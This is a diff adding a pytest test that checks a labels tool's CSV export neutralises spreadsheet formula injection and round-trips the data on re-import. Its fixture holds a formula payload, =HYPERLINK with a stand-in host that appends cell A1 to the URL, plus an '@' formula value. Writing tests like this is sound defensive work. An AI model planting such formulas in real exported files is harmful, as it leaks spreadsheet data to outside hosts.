@@ -266,3 +266,27 @@ def test_importing_a_file_again_reasserts_what_a_later_label_changed(store, tmp_
     assert labels.import_labels(db, untimed).added == 1
     with labels.connect(db, read_only=True) as con:
         assert [r["label"] for r in labels.export_labels(con, effective=True)] == [True]
+
+
+@pytest.mark.process
+def test_a_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back_the_same(store, tmp_path):
+    db, (t1, t2, _), _ = store
+    notes = ['=HYPERLINK("http://x.example/?"&A1,"click")', "'@SUM(1+1)"]
+    labels.add_label(db, t1, "over_refusal", True, note=notes[0], source="@lead")
+    labels.add_label(db, t2, "over_refusal", False, note=notes[1])
+    exported = tmp_path / "labels.csv"
+    done = run_cli("labels", "export", "--db", str(db), "--out", str(exported))
+    assert done.returncode == 0, done.stderr
+    import csv
+
+    rows = list(csv.DictReader(exported.open(newline="")))
+    assert [(r["note"], r["source"]) for r in rows] == [
+        ("'" + notes[0], "'@lead"),
+        ("'" + notes[1], "human"),
+    ]
+    copy = tmp_path / "copy.duckdb"
+    shutil.copy(db, copy)
+    with duckdb.connect(str(copy)) as con:
+        con.execute("DELETE FROM labels")
+    assert labels.import_labels(copy, exported).added == 2
+    assert _labels(copy) == _labels(db)
